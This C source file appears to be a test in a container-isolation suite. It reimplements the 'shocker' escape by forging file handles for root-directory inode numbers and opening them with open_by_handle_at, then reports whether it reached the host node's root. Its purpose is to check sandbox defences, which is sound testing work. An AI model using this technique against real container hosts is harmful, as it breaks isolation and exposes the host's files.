/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Class: opening files by number, around the tree of mounts ("shocker", Docker 2014): a handle of the
 * file system's root directory is made up and opened by open_by_handle_at(2).
 * Wall: the kernel wants CAP_DAC_READ_SEARCH over the file system or the mount's namespace; newer
 * kernels (6.11) are content with less, so the system call filter refuses the call altogether, by all
 * of its doors.
 * Usage: handle FILE-OF-THE-NODE
 */
#include "escape.h"

struct handle {
	unsigned int bytes;
	int type;
	unsigned char data[128];
};

static long open_handle(int mnt, struct handle *h)
{
	return syscall(SYS_open_by_handle_at, mnt, h, O_RDONLY | O_DIRECTORY);
}

static void try_dir(const char *dir, const char *mark)
{
	/* root directories of ext4, btrfs (no generation), xfs */
	static const unsigned int inodes[] = { 2, 256, 128, 64 };
	int mnt = open(dir, O_RDONLY | O_DIRECTORY), id;
	struct handle own = { .bytes = sizeof(own.data) };

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, dir, &own, &id, 0) == 0)
		attempt(open_handle(mnt, &own) >= 0, "open_by_handle_at of our own %s", dir);
	for (size_t i = 0; i < sizeof(inodes) / sizeof(*inodes); i++) {
		struct handle h = { .bytes = 8, .type = 1 };
		long fd;

		memcpy(h.data, &inodes[i], sizeof(inodes[i]));
		fd = open_handle(mnt, &h);
		if (fd >= 0 && faccessat((int)fd, mark + 1, F_OK, 0) == 0) {
			attempt(true, "inode %u by %s: the node's root", inodes[i], dir);
			return;
		}
		attempt(fd >= 0, "inode %u by %s", inodes[i], dir);
	}
}

int main(int argc, char **argv)
{
	static const char *const dirs[] = { "/", "/root", "/tmp", "/var/lib/docker" };

	if (argc < 2)
		return 2;
	for (size_t i = 0; i < sizeof(dirs) / sizeof(*dirs); i++)
		if (seen(dirs[i]))
			try_dir(dirs[i], argv[1]);
	return verdict();
}
